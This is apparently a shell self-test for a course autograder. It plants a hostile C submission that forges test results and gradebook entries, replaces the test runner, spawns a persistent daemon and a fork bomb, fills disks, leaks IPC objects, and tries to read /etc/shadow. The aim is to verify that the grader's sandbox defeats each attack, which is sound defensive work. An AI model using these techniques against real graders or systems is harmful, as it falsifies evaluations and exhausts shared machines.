# Grader self-test: a submission that attacks the grader from inside the code under test. Its
# rio_read_exact attacks in six tests (one attack each, chosen by the test's directory name)
# and then fails as a broken function would (-1, EIO); every other test meets correct code.
# One grading of chapter 1's rio tests (--keep, to look at what the attacks saw) must give
# exactly the scores of that real behaviour, and leave no process, System V object or file.
#
#   rio_read_exact_buffered_data     writes where results go: the --junit file and, as root,
#                                    the gradebook, a link in /tmp where --json will be written,
#                                    the test runner binary (a fake that passes every test);
#                                    its own check.xml and reached-end marker, in place
#   rio_read_exact_one_byte_at_a_time  a daemon (double fork, setsid, signals ignored) that
#                                    outlives its test and, as root, tries the other tests'
#                                    folders
#   rio_read_exact_eintr             a fork bomb, bounded in time by itself (root only)
#   rio_read_exact_eof_mid_message   fake PASS lines, a fake total and fake Check XML on stdout
#                                    and stderr, then kills the runner so that they are all the
#                                    driver gets
#   rio_read_exact_eof_at_once       fills the disk: files of 128 MiB in its folder until the
#                                    writes fail (at most 640 MiB in all), the same in /tmp,
#                                    and files in /tmp, /var/tmp and /dev/shm left behind
#   rio_read_exact_len_zero          System V segments, a semaphore set and a message queue:
#                                    a key of its range, a key outside it, IPC_PRIVATE (one
#                                    re-owned to root)
# More submissions: functions named like Check's (srunner_ntests_failed, _ck_assert_failed)
# in rio.c do not build into a runner, nor do a constructor or a function named like one of the
# C library's (grader/linkcheck; every other route to code before main: t_tamper_premain.sh),
# so no test passes; a chapter folder that is a link to the
# lab's reference solution is not read.
#
# What is defended, and what is not:
# - As root the tests run sandboxed (grader/driver/sandbox.h): a uid of their own, a cleared
#   environment, limits (RLIMIT_NPROC 512, RLIMIT_FSIZE 256 MiB, ...) and, where the kernel
#   allows mount namespaces, a disk of its own: its folder a tmpfs of 256 MiB, /tmp, /var/tmp
#   and /dev/shm tmpfs mounts of 64 MiB that vanish with the test. Student code can not
#   write the driver's outputs, the gradebook, the tree's runner or points data, nor another
#   test's folder; whatever its uid leaves (processes, System V objects, files in /tmp, /var/tmp,
#   /dev/shm) is removed after each test. Without root, tests run as the caller: processes and
#   the IPC keys of the test's range are still cleaned up, but the attacks on files the caller
#   owns, the fork bomb and the objects outside the key range are not defended (these parts
#   are skipped, or cleaned up here, with a note).
# - Code under test runs as the test runner's user, so it can write its own test's check.xml
#   and reached-end marker (here: in place, a passing report longer than Check's header, which
#   once merged with Check's report parses as a pass). What defeats it: the marker must hold a
#   token that the runner read and removed before any test code ran (so the forged one says
#   "did not run to its end"; t_exit0.sh forges one and calls _exit(0)), and a pass needs the
#   runner's exit status 0, which comes from Check's count in the runner's own process.
# - As root each test has a network namespace of its own with only a loopback interface: it
#   reaches no other machine and no server of this one (not even on 127.0.0.1).
# - As root the student's code is also compiled by an unprivileged user of the run (sb_run_build),
#   so an #include of a file only root may read fails as it would for anyone.
# - Code that would run in the runner's own process outside the functions under test (a
#   constructor or destructor in the student's file, a function that replaces one of the C
#   library's, a call to the grader's or Check's functions) is refused before the link by
#   grader/linkcheck. Not defended: a process that ptraces the runner (Yama's ptrace_scope 1,
#   the default on Debian and Ubuntu, allows only ancestors), and code that searches its own
#   process's memory for the end token (the memcheck runs, without fork, are no weaker: the
#   token is what a forged pass lacks there too).

ta=$tmp/tamper-attacks

# The attacks, put in front of rio.c; @TAG@ (unique to this run), @DIR@ (a folder of this
# self-test that the tests can reach) and @ROOT@ are filled in by tamper_attacks_submission.
tamper_attacks_code() {
    cat <<'EOF'
/* TAMPER: attacks on the grader, for grader/selftest/t_tamper_attacks.sh */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/msg.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define TAMPER_TAG "@TAG@"
#define TAMPER_DIR "@DIR@"
#define TAMPER_ROOT @ROOT@
#define TAMPER_FILL_FILE (128LL << 20)
#define TAMPER_FILL_CAP (640LL << 20)

static int tamper_in(const char *test)
{
    const char *d = getenv("SVRLAB_TEST_DIR");
    return d && strstr(d, test) != NULL;
}

/* one line of what an attack saw, into the test's folder (kept with --keep) */
__attribute__((format(printf, 1, 2))) static void tamper_note(const char *f, ...)
{
    char path[4200];
    snprintf(path, sizeof path, "%s/attacks", getenv("SVRLAB_TEST_DIR"));
    FILE *out = fopen(path, "a");
    if (!out)
        return;
    va_list ap;
    va_start(ap, f);
    vfprintf(out, f, ap);
    va_end(ap);
    fputc('\n', out);
    fclose(out);
}

static void tamper_write(const char *what, const char *path, int flags, const char *text)
{
    int fd = open(path, flags, 0644);
    int ok = fd >= 0 && write(fd, text, strlen(text)) == (ssize_t)strlen(text);
    tamper_note("%s: %s", what, ok ? "WRITTEN" : strerror(errno));
    if (fd >= 0)
        close(fd);
}

#define TAMPER_PASS_XML                                                                           \
    "<?xml version=\"1.0\"?>\n<testsuites xmlns=\"http://check.sourceforge.net/ns\">\n"      \
    "  <suite>\n    <title>svrlab</title>\n    <test result=\"success\">\n"                     \
    "      <path>.</path>\n      <fn>runner.c:97</fn>\n      <id>%s</id>\n"                     \
    "      <iteration>0</iteration>\n      <duration>0.0001</duration>\n"                      \
    "      <description>%s</description>\n      <message>Passed</message>\n"                   \
    "    </test>\n  </suite>\n</testsuites>\n"

static void tamper_results_path(void)
{
    char path[4200], text[2048];
    const char *dir = getenv("SVRLAB_TEST_DIR");
    tamper_write("junit", TAMPER_DIR "/r.xml", O_WRONLY | O_CREAT | O_TRUNC, "<forged/>\n");
#if TAMPER_ROOT
    tamper_write("gradebook", TAMPER_DIR "/gradebook.csv", O_WRONLY | O_APPEND,
                 "\"mallory\",100,100,\"graded\"\n");
    int r = symlink(TAMPER_DIR "/victim", "/tmp/svrlab-tamper-" TAMPER_TAG ".json");
    tamper_note("json link: %s", r == 0 ? "LINKED" : strerror(errno));
    /* a runner that passes every test it is asked for */
    snprintf(path, sizeof path, "%s/../../out/student/runner", dir);
    tamper_write("runner", path, O_WRONLY | O_TRUNC,
                 "#!/bin/sh\nprintf '<?xml version=\"1.0\"?><testsuites xmlns=\"http://check."
                 "sourceforge.net/ns\"><suite><test result=\"success\"><id>%s</id><message>"
                 "Passed</message></test></suite></testsuites>' \"$3\" >\"$5\"\n"
                 "echo \"$3\" >\"$SVRLAB_TEST_DIR/reached-end\"\n");
    snprintf(path, sizeof path, "%s/../../out/student/runner.new", dir);
    tamper_write("runner.new", path, O_WRONLY | O_CREAT | O_EXCL, "#!/bin/sh\n");
#endif
    snprintf(path, sizeof path, "%s/../../grader/chapters/chapter1.points", dir);
    tamper_write("points", path, O_WRONLY | O_APPEND, "ex1.1 rio_read_exact_bonus 100 0\n");
    /* its own results, in place: Check writes its report over them at the end */
    snprintf(text, sizeof text, TAMPER_PASS_XML, "rio_read_exact_buffered_data",
             "rio_read_exact_buffered_data");
    snprintf(path, sizeof path, "%s/check.xml", dir);
    tamper_write("check.xml", path, O_WRONLY | O_TRUNC, text);
    snprintf(path, sizeof path, "%s/reached-end", dir);
    tamper_write("reached-end", path, O_WRONLY | O_CREAT | O_TRUNC,
                 "rio_read_exact_buffered_data\n");
}

static void tamper_daemon(void)
{
    pid_t p = fork();
    if (p == 0) {
        setsid();
        if (fork() != 0)
            _exit(0);
        signal(SIGTERM, SIG_IGN);
        signal(SIGHUP, SIG_IGN);
        signal(SIGINT, SIG_IGN);
        tamper_note("daemon: pid %d", (int)getpid());
        for (int round = 0;; round++) {
#if TAMPER_ROOT
            /* the other tests' folders: their reports, a marker, in place and afresh */
            char run[4200];
            snprintf(run, sizeof run, "%s/..", getenv("SVRLAB_TEST_DIR"));
            DIR *d = opendir(run);
            struct dirent *e;
            int written = 0;
            while (d && (e = readdir(d))) {
                char path[4600];
                snprintf(path, sizeof path, "%s/%s/reached-end", run, e->d_name);
                int fd = open(path, O_WRONLY | O_CREAT | O_APPEND, 0644);
                if (fd >= 0 && !strstr(e->d_name, "one_byte_at_a_time") && e->d_name[0] != '.')
                    written++;
                if (fd >= 0)
                    close(fd);
            }
            if (d)
                closedir(d);
            if (round == 0)
                tamper_note("daemon: other tests' folders written: %d", written);
#endif
            usleep(100000);
        }
    }
    if (p > 0)
        waitpid(p, NULL, 0);
    usleep(500000); /* let the daemon settle while the test still runs */
}

#if TAMPER_ROOT
/* How many processes run as our uid. */
static int tamper_count_procs(void)
{
    DIR *d = opendir("/proc");
    int n = 0;
    struct dirent *e;
    while (d && (e = readdir(d))) {
        char path[300], buf[2048];
        if (e->d_name[0] < '0' || e->d_name[0] > '9')
            continue; /* not /proc/self, which is us again */
        snprintf(path, sizeof path, "/proc/%s/status", e->d_name);
        int fd = open(path, O_RDONLY);
        if (fd < 0)
            continue;
        ssize_t len = read(fd, buf, sizeof buf - 1);
        close(fd);
        buf[len > 0 ? len : 0] = 0;
        const char *uid = strstr(buf, "\nUid:");
        unsigned long u;
        if (uid && sscanf(uid, "\nUid: %lu", &u) == 1 && u == (unsigned long)getuid())
            n++;
    }
    if (d)
        closedir(d);
    return n;
}
#endif

static void tamper_fork_bomb(void)
{
#if TAMPER_ROOT
    pid_t first = getpid();
    time_t end = time(NULL) + 3;
    int refused = 0;
    while (time(NULL) < end) {
        if (fork() < 0) {
            refused |= errno == EAGAIN;
            usleep(50000);
        }
    }
    if (getpid() != first)
        for (;;)
            pause();
    tamper_note("bomb: %d processes, fork refused: %d", tamper_count_procs(), refused);
#endif
}

static void tamper_fake_output(void)
{
    const char *fake = "[ 7/12] ex1.1  rio_read_exact_eof_mid_message ................... "
                       "PASS   3/3   (0.1s)\n";
    printf("%s\r\033[2Ktotal: 100/100\n", fake);
    fprintf(stderr, TAMPER_PASS_XML, "rio_read_exact_eof_mid_message",
            "rio_read_exact_eof_mid_message");
    fprintf(stderr, "%s\ntotal: 100/100\n", fake);
    fflush(NULL);
    kill(getppid(), SIGKILL); /* the runner: now this output is all there is */
}

/* Write files of TAMPER_FILL_FILE bytes (below RLIMIT_FSIZE) named prefix0, prefix1, ...
 * until a write fails or TAMPER_FILL_CAP bytes are written; remove them (so the note still
 * fits) and note how far it got and why it stopped. */
static void tamper_fill(const char *what, const char *prefix)
{
    static char block[1 << 20];
    memset(block, 'x', sizeof block);
    signal(SIGXFSZ, SIG_IGN);
    long long total = 0;
    int err = 0, files = 0;
    char path[4200];
    while (!err && total < TAMPER_FILL_CAP) {
        snprintf(path, sizeof path, "%s%d", prefix, files++);
        int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
        if (fd < 0) {
            err = errno;
            break;
        }
        for (long long n = 0; n < TAMPER_FILL_FILE && total < TAMPER_FILL_CAP;) {
            ssize_t w = write(fd, block, sizeof block);
            if (w <= 0) {
                err = w < 0 ? errno : ENOSPC;
                break;
            }
            n += w;
            total += w;
        }
        close(fd);
    }
    for (int i = 0; i < files; i++) {
        snprintf(path, sizeof path, "%s%d", prefix, i);
        unlink(path);
    }
    tamper_note("%s: %lld MiB, stopped by: %s", what, total >> 20,
                err ? strerror(err) : "its own cap");
}

static void tamper_fill_disk(void)
{
    tamper_fill("fill", "fill");
    tamper_fill("fill /tmp", "/tmp/svrlab-tamper-" TAMPER_TAG "-fill");
    const char *outside[] = {"/tmp/svrlab-tamper-" TAMPER_TAG "-file",
                             "/dev/shm/svrlab-tamper-" TAMPER_TAG "-shm",
                             "/var/tmp/svrlab-tamper-" TAMPER_TAG "-file"};
    for (size_t i = 0; i < sizeof outside / sizeof outside[0]; i++)
        tamper_write("outside", outside[i], O_WRONLY | O_CREAT | O_TRUNC, "left behind\n");
}

static void tamper_ipc(void)
{
    key_t in = (key_t)atol(getenv("SVRLAB_IPC_KEY")) + 1;
    key_t out = (key_t)(0x0e000000L | ((atol(getenv("SVRLAB_IPC_KEY")) >> 6) & 0xffffffL));
    int a = shmget(in, 4096, IPC_CREAT | 0600);
    int b = shmget(out, 4096, IPC_CREAT | 0600);
    int c = shmget(IPC_PRIVATE, 4096, IPC_CREAT | 0600);
    int s = semget(IPC_PRIVATE, 1, IPC_CREAT | 0600);
    int m = msgget(IPC_PRIVATE, IPC_CREAT | 0600);
    struct shmid_ds ds;
    int reowned = 0;
    if (c >= 0 && shmctl(c, IPC_STAT, &ds) == 0) {
        ds.shm_perm.uid = 0; /* looks like root's now; its creator stays ours */
        reowned = shmctl(c, IPC_SET, &ds) == 0;
    }
    tamper_note("ipc: shm %d %d %d sem %d msg %d out-key %ld reowned %d", a, b, c, s, m,
                (long)out, reowned);
}

static void tamper_attack(void)
{
    static int done; /* once per process */
    if (done++)
        return;
    if (tamper_in("rio_read_exact_buffered_data"))
        tamper_results_path();
    else if (tamper_in("rio_read_exact_one_byte_at_a_time"))
        tamper_daemon();
    else if (tamper_in("rio_read_exact_eintr"))
        tamper_fork_bomb();
    else if (tamper_in("rio_read_exact_eof_mid_message"))
        tamper_fake_output();
    else if (tamper_in("rio_read_exact_eof_at_once"))
        tamper_fill_disk();
    else if (tamper_in("rio_read_exact_len_zero"))
        tamper_ipc();
    else
        done = 0;
}

static int tamper_attacked(void)
{
    return tamper_in("rio_read_exact_buffered_data") ||
           tamper_in("rio_read_exact_one_byte_at_a_time") || tamper_in("rio_read_exact_eintr") ||
           tamper_in("rio_read_exact_eof_mid_message") || tamper_in("rio_read_exact_eof_at_once") ||
           tamper_in("rio_read_exact_len_zero");
}
/* end of TAMPER */
EOF
}

tamper_attacked_tests="rio_read_exact_buffered_data rio_read_exact_eintr
rio_read_exact_eof_at_once rio_read_exact_eof_mid_message rio_read_exact_len_zero
rio_read_exact_one_byte_at_a_time"

# A folder of this run that the tests' users can reach (not under $tmp, which is 0700):
# the TMPDIR of the grading, the --junit file, a fake gradebook and a file to protect.
tamper_attacks_run() {
    root=0
    [ "$(id -u)" = 0 ] && root=1
    rm -rf "$ta" && mkdir -p "$ta" || return 1
    td=$(mktemp -d /tmp/svrlab-tamper.XXXXXX) && chmod 755 "$td" && echo "$td" >"$ta/dir" ||
        return 1
    tag=${td##*.}
    echo "victim: never to be written" >"$td/victim"
    echo '"name","total"' >"$td/gradebook.csv"
    submission "$ta/sub" 1 &&
        { tamper_attacks_code | sed -e "s|@TAG@|$tag|" -e "s|@DIR@|$td|" -e "s|@ROOT@|$root|"
          cat "$ta/sub/chapter1/rio.c"; } >"$ta/rio.c" && mv "$ta/rio.c" "$ta/sub/chapter1/rio.c" &&
        insert_at_start "$ta/sub/chapter1/rio.c" rio_read_exact \
            'if (tamper_attacked()) { tamper_attack(); errno = EIO; return -1; }' || return 1
    TMPDIR=$td grader/grade --src "$ta/sub" --ch 1 --test rio_ --no-memcheck --keep -v \
        --json "/tmp/svrlab-tamper-$tag.json" --junit "$td/r.xml" >"$ta/out" 2>&1
    st=$?
    cat "$ta/out"
    [ $st -eq 0 ] && cp "/tmp/svrlab-tamper-$tag.json" "$ta/r.json" || return 1
    # what the attacks saw, test by test
    for f in "$td"/svrlab-grade.*/ch1/run/*/attacks; do
        [ -f "$f" ] && sed "s|^|$(basename "$(dirname "$f")"): |" "$f"
    done | tee "$ta/attacks"
    # exactly the attacked tests fail; every other one passes
    failing=$(tests_where "$ta/r.json" '.status != "pass"' | sort | tr '\n' ' ')
    want=$(echo "$tamper_attacked_tests" | tr ' ' '\n' | sort | tr '\n' ' ')
    [ "$failing" = "$want" ] || { echo "failing: $failing"; echo "expected: $want"; return 1; }
}

# tamper_saw PATTERN: a line of what the attacks saw matches PATTERN (grep -E).
tamper_saw() {
    grep -Eq "$1" "$ta/attacks" || { echo "no attack line matches '$1'"; return 1; }
}

t_tamper_fake_output() {
    score=$(jq .score "$ta/r.json") max=$(jq .max_score "$ta/r.json")
    # one total, the real one; the fake lines only inside the indented reason
    [ "$(grep -c '^total: ' "$ta/out")" -eq 1 ] &&
        grep -qx "total: $score/$max" "$ta/out" || { echo "the totals printed are wrong"; return 1; }
    grep -E '^\[ *[0-9]+/[0-9]+\] .*rio_read_exact_eof_mid_message' "$ta/out" | grep -q FAIL ||
        { echo "rio_read_exact_eof_mid_message is not shown as failing"; return 1; }
    # its \r and ESC [2K (back to column 0, erase the line) do not reach the terminal
    ! grep -q "$(printf '\r')" "$ta/out" && ! grep -q "$(printf '\033')" "$ta/out" ||
        { echo "the test's control characters reach the grader's output"; return 1; }
    fake='PASS   3/3   (0.1s)'
    [ "$(grep -c "$fake" "$ta/out")" -eq "$(grep -c "^        .*$fake" "$ta/out")" ] ||
        { echo "a fake PASS line reached column 0"; return 1; }
    jq -e '.chapters[].tests[] | select(.name == "rio_read_exact_eof_mid_message")
        | .status == "fail" and (.reason | test("ended without a result"))' "$ta/r.json" >/dev/null
}

t_tamper_results_path() {
    td=$(cat "$ta/dir")
    # the --junit file is the driver's, whatever the test wrote first
    ! grep -q forged "$td/r.xml" && grep -q '<testcase ' "$td/r.xml" ||
        { echo "the JUnit file is not the driver's"; return 1; }
    # its own check.xml and marker, forged: the runner's exit status says otherwise
    tamper_saw 'buffered_data: check.xml: WRITTEN' &&
        tamper_saw 'buffered_data: reached-end: WRITTEN' || return 1
    jq -e '.chapters[].tests[] | select(.name == "rio_read_exact_buffered_data")
        | .status == "fail" and (.reason | test("did not run to its end"))' \
        "$ta/r.json" >/dev/null || { echo "the forged report was not caught"; return 1; }
    if [ "$(id -u)" != 0 ]; then
        echo "note: not root: the gradebook, a link where --json goes and the runner are the"
        echo "caller's own files: not defended, not tried"
        return 0
    fi
    # the folder of these files is not even there where the test has a /tmp of its own
    tamper_saw 'buffered_data: gradebook: (Permission denied|No such file or directory)' &&
        tamper_saw 'buffered_data: junit: (Permission denied|No such file or directory)' &&
        tamper_saw 'buffered_data: runner: Permission denied' &&
        tamper_saw 'buffered_data: runner.new: Permission denied' &&
        tamper_saw 'buffered_data: points: Permission denied' || return 1
    [ "$(cat "$td/gradebook.csv")" = '"name","total"' ] ||
        { echo "the gradebook changed"; return 1; }
    [ "$(cat "$td/victim")" = "victim: never to be written" ] ||
        { echo "the driver wrote its JSON through the test's link"; return 1; }
    # the link the test left in /tmp was removed: the JSON is a file of root's
    j=/tmp/svrlab-tamper-${td##*.}.json
    [ -f "$j" ] && [ ! -L "$j" ] && [ "$(stat -c %u "$j")" = 0 ] ||
        { echo "$j is not root's own file"; return 1; }
}

t_tamper_daemon() {
    tamper_saw 'one_byte_at_a_time: daemon: pid [0-9]+' || return 1
    pid=$(sed -n 's/.*one_byte_at_a_time: daemon: pid \([0-9]*\).*/\1/p' "$ta/attacks" | head -1)
    [ ! -d "/proc/$pid" ] || { echo "the daemon (pid $pid) still runs"; return 1; }
    [ "$(id -u)" != 0 ] || tamper_saw 'daemon: other tests.* folders written: 0$'
}

t_tamper_fork_bomb() {
    if [ "$(id -u)" != 0 ]; then
        echo "skipped: not root, so no sandbox and no RLIMIT_NPROC of the test's own: a fork"
        echo "bomb would hit the caller's whole session"
        return 0
    fi
    line=$(grep 'eintr: bomb:' "$ta/attacks") || { echo "the bomb said nothing"; return 1; }
    n=$(echo "$line" | sed 's/.*bomb: \([0-9]*\) processes.*/\1/')
    echo "$line"
    # the limit was met (fork refused) and held; the tests next to it passed (checked above)
    [ "$n" -le 512 ] && echo "$line" | grep -q 'fork refused: 1'
}

t_tamper_disk() {
    grep 'eof_at_once: fill' "$ta/attacks" || { echo "the fill said nothing"; return 1; }
    if [ "$(id -u)" != 0 ]; then
        echo "note: not root: no sandbox; the attack stopped at its own cap"
        return 0
    fi
    if grep -q 'no mount namespaces here' "$ta/out"; then
        echo "note: no mount namespaces here: each file stops at RLIMIT_FSIZE, the total at"
        echo "the attack's own cap"
        return 0
    fi
    # the test's folder and its /tmp are tmpfs mounts of its own: full at 256 and 64 MiB
    grep -Eq 'eof_at_once: fill: (25[0-6]|2[0-4][0-9]|1[0-9][0-9]) MiB, stopped by: No space left on device' \
        "$ta/attacks" &&
        grep -Eq 'eof_at_once: fill /tmp: (6[0-4]|[1-5][0-9]) MiB, stopped by: No space left on device' \
            "$ta/attacks"
}

# tamper_ipc_alive KIND ID: the System V object (shm, sem, msg) with that id exists.
tamper_ipc_alive() {
    awk -v id="$2" 'NR > 1 && $2 == id { found = 1 } END { exit !found }' "/proc/sysvipc/$1"
}

t_tamper_ipc() {
    line=$(grep 'len_zero: ipc:' "$ta/attacks") || { echo "the IPC attack said nothing"; return 1; }
    echo "$line"
    # shellcheck disable=SC2046 # the six numbers of the line, as $1 .. $6
    set -- $(echo "$line" | sed 's/.*ipc: shm \(.*\) \(.*\) \(.*\) sem \(.*\) msg \(.*\) out-key.*/\1 \2 \3 \4 \5/')
    [ $# -eq 5 ] && [ "$1" -ge 0 ] && [ "$2" -ge 0 ] && [ "$3" -ge 0 ] && [ "$4" -ge 0 ] &&
        [ "$5" -ge 0 ] || { echo "the attack could not create its objects"; return 1; }
    alive() { tamper_ipc_alive "$@"; }
    if [ "$(id -u)" != 0 ]; then
        # only the key range is the test's without a sandbox; the rest is removed here
        echo "note: not root: the objects outside the test's key range are not defended"
        ipcrm -m "$2" -m "$3" -s "$4" -q "$5" 2>/dev/null
        ! alive shm "$1" || { echo "the segment of the test's key range is left"; return 1; }
        return 0
    fi
    left=
    alive shm "$1" && left="$left shm:$1"
    alive shm "$2" && left="$left shm:$2"
    alive shm "$3" && left="$left shm:$3"
    alive sem "$4" && left="$left sem:$4"
    alive msg "$5" && left="$left msg:$5"
    [ -z "$left" ] || { echo "left behind:$left"; return 1; }
}

# Nothing of the attacks is left: no process of the tree, no file outside it. Then this
# self-test's own files go.
t_tamper_clean() {
    td=$(cat "$ta/dir") && [ -n "$td" ] || return 1
    tag=${td##*.}
    left=$(ps -eo pid,args | grep -F "$td" | grep -v grep)
    outside=$(ls -d /tmp/svrlab-tamper-"$tag"-* /dev/shm/svrlab-tamper-"$tag"-* \
        /var/tmp/svrlab-tamper-"$tag"-* 2>/dev/null)
    # shellcheck disable=SC2086 # a list of paths without spaces
    rm -rf "$td" "/tmp/svrlab-tamper-$tag.json" $outside
    [ -z "$left" ] || { echo "left behind:"; echo "$left"; return 1; }
    if [ "$(id -u)" != 0 ]; then
        [ -z "$outside" ] || echo "note: not root: files left outside the test's folder, removed here"
        return 0
    fi
    [ -z "$outside" ] || { echo "left behind: $outside"; return 1; }
}

# Functions named like Check's in the student's file: grader/linkcheck refuses the file before
# the link, so every test fails, with its reason in the build log.
t_tamper_check_names() {
    d=$tmp/tamper-check-names
    submission "$d" 1 && cat >>"$d/chapter1/rio.c" <<'EOF' || return 1

/* TAMPER: Check's own functions, made to report that nothing failed */
struct SRunner;
int srunner_ntests_failed(struct SRunner *sr);
void _ck_assert_failed(const char *file, int line, const char *expr, const char *msg, ...);
int srunner_ntests_failed(struct SRunner *sr)
{
    (void)sr;
    return 0;
}
void _ck_assert_failed(const char *file, int line, const char *expr, const char *msg, ...)
{
    (void)file, (void)line, (void)expr, (void)msg;
}
EOF
    grade_json "$d.json" --src "$d" --ch 1 --test rio_ --no-memcheck >"$d.out" 2>&1 ||
        { cat "$d.out"; return 1; }
    jq -r '.chapters[].build_log' "$d.json" >"$d.log"
    grep "defines '" "$d.log" | head -3
    jq -e '.score == 0 and ([.chapters[].tests[]] | length > 0)
        and all(.chapters[].tests[]; .status == "fail" and (.reason | test("did not build")))' \
        "$d.json" >/dev/null &&
        grep -q "rio.c: defines 'srunner_ntests_failed', a name of the C library, Check" "$d.log" &&
        grep -q "rio.c: defines '_ck_assert_failed', a name of the C library, Check" "$d.log"
}

# A constructor (it would run in the test runner before any test, outside the functions under
# test), a function named like the C library's (it would replace _exit for every caller, the
# grader's code included) and a call to the grader's gt_reached_end (the marker of a test that
# ran to its end, then exit(0)) in the student's file: the runner is not linked, and the build
# output names all three.
t_tamper_constructor() {
    d=$tmp/tamper-constructor
    submission "$d" 1 && cat >>"$d/chapter1/rio.c" <<'EOF' || return 1

/* TAMPER: code that runs before main, a C library function replaced, and the grader's own
 * "this test ran to its end" marker written before cutting the test short */
#include <stdlib.h>
static volatile int tamper_ran;
__attribute__((constructor)) static void tamper_first(void)
{
    tamper_ran = 1;
}
void _exit(int status)
{
    for (;;)
        (void)status;
}
void gt_reached_end(const char *name) __attribute__((weak)); /* so the programs link */
void tamper_end_here(const char *test);
void tamper_end_here(const char *test)
{
    gt_reached_end(test);
    exit(0);
}
EOF
    grade_json "$d.json" --src "$d" --ch 1 --test rio_ --no-memcheck >"$d.out" 2>&1 ||
        { cat "$d.out"; return 1; }
    jq -e '.score == 0 and ([.chapters[].tests[]] | length > 0)
        and all(.chapters[].tests[]; .status == "fail" and (.reason | test("did not build")))' \
        "$d.json" >/dev/null || { cat "$d.out"; return 1; }
    jq -r '.chapters[].build_log' "$d.json" >"$d.log"
    grep -q "rio.c: has section .init_array" "$d.log" && grep -q "rio.c: defines '_exit'" "$d.log" &&
        grep -q "rio.c: calls 'gt_reached_end', a function of the grader" "$d.log" &&
        grep -q "rio.c: has section .init_array" "$d.out" ||
        { echo "the build output does not name the problems:"; cat "$d.out" "$d.log"; return 1; }
}

# A student's file that includes a file only root may read (/etc/shadow): as root the grader
# compiles the student's code as an unprivileged user, so the compiler can not open it and
# the build output quotes none of its lines. (Not root: the compiler runs as the caller, who
# can not read it either; the check still holds.)
t_tamper_include_root_file() {
    d=$tmp/tamper-include
    [ -r /etc/shadow ] || [ "$(id -u)" = 0 ] || { echo "note: /etc/shadow unreadable here: nothing to show"; return 0; }
    [ -f /etc/shadow ] || { echo "note: no /etc/shadow on this machine"; return 0; }
    submission "$d" 1 && printf '#include "/etc/shadow"\n' >>"$d/chapter1/rio.c" || return 1
    grade_json "$d.json" --src "$d" --ch 1 --test rio_ --no-memcheck >"$d.out" 2>&1 ||
        { cat "$d.out"; return 1; }
    grep -q "shadow: Permission denied" "$d.out" ||
        { echo "the compiler was not refused /etc/shadow:"; head -20 "$d.out"; return 1; }
    if grep -q "root:" "$d.out" || jq -r '.chapters[].build_log' "$d.json" | grep -q "root:"; then
        echo "the build output quotes /etc/shadow"
        return 1
    fi
}

# A student's code that connects to a server of the machine on 127.0.0.1 (one this self-test
# starts) and, if it gets through, breaks rio_read_exact: as root each test has a network of
# its own, so the connection is refused and the submission scores full marks. (Not root, or no
# network namespaces: the tests share the machine's network, nothing to show.)
t_tamper_network() {
    d=$tmp/tamper-network
    [ "$(id -u)" = 0 ] || { echo "note: not root: the tests share the machine's network"; return 0; }
    server_out=$d.server
    mkdir -p "$d" || return 1
    build/solutions/chapter3/echosvr_v1 -p 0 >"$server_out" 2>&1 &
    spid=$!
    port=
    for _ in 1 2 3 4 5 6 7 8 9 10; do
        port=$(sed -n 's/^listening on port \([0-9]*\)$/\1/p' "$server_out" 2>/dev/null)
        [ -n "$port" ] && break
        sleep 0.2
    done
    [ -n "$port" ] || { kill "$spid"; echo "the server did not start"; return 1; }
    submission "$d" 1 && sed -i '1i #include <arpa/inet.h>\n#include <netinet/in.h>\n#include <sys/socket.h>' \
        "$d/chapter1/rio.c" && insert_at_start "$d/chapter1/rio.c" rio_read_exact \
        "{ struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons($port)}; a.sin_addr.s_addr = htonl(INADDR_LOOPBACK); int s = socket(AF_INET, SOCK_STREAM, 0); int ok = s >= 0 && connect(s, (struct sockaddr *)&a, sizeof a) == 0; if (s >= 0) close(s); if (ok) return -1; }" ||
        { kill "$spid"; return 1; }
    grade_json "$d.json" --src "$d" --ch 1 --test rio_ --no-memcheck >"$d.out" 2>&1
    rc=$?
    kill "$spid"
    wait "$spid" 2>/dev/null
    [ "$rc" -eq 0 ] || { cat "$d.out"; return 1; }
    if grep -q "no network namespaces here" "$d.out"; then
        echo "note: no network namespaces on this machine: nothing to show"
        return 0
    fi
    jq -e '.score == .max_score' "$d.json" >/dev/null ||
        { echo "a test reached the machine's 127.0.0.1:$port:"; grep -A1 FAIL "$d.out" | head; return 1; }
}

# A submission whose chapter folder is a link to the lab's reference solution (on Gradescope,
# /autograder/source/solutions/chapter1): only files inside the submission count, so it
# scores like the starters.
t_tamper_link_out() {
    d=$tmp/tamper-link
    mkdir -p "$d" && ln -s "$top/solutions/chapter1" "$d/chapter1" || return 1
    grade_json "$d.json" --src "$d" --ch 1 --test rio_ --no-memcheck >"$d.out" 2>&1 ||
        { cat "$d.out"; return 1; }
    grep 'leads out of your upload' "$d.out" || return 1
    got=$(jq '.score' "$d.json")
    starter=$(jq '[.chapters[] | select(.available) | .tests[]
        | select(.kind == "test" and (.name | startswith("rio_"))) | .score] | add' "$tmp/starters.json")
    [ "$got" = "$starter" ] || { echo "scored $got, the starters $starter"; return 1; }
}

check "tamper: an attacking submission scores what its real behaviour earns" tamper_attacks_run
check "tamper: fake PASS lines, total and Check XML on its output count for nothing" t_tamper_fake_output
check "tamper: writes to the results (driver outputs, gradebook, runner) fail" t_tamper_results_path
check "tamper: a daemon does not outlive its test" t_tamper_daemon
check "tamper: a fork bomb stays within its RLIMIT_NPROC (root)" t_tamper_fork_bomb
check "tamper: filling the disk stops at the test's own 256 MiB (root)" t_tamper_disk
check "tamper: System V objects left behind are removed" t_tamper_ipc
check "tamper: nothing of the attacks is left on the machine" t_tamper_clean
check "tamper: functions with Check's names do not build" t_tamper_check_names
check "tamper: a constructor, a C library name or a grader call in a linked file does not build" t_tamper_constructor
check "tamper: a build that includes a root-only file quotes none of it" t_tamper_include_root_file
check "tamper: a test reaches no server of the machine, not even on 127.0.0.1 (root)" t_tamper_network
check "tamper: a chapter folder linked to the reference solution counts as missing" t_tamper_link_out
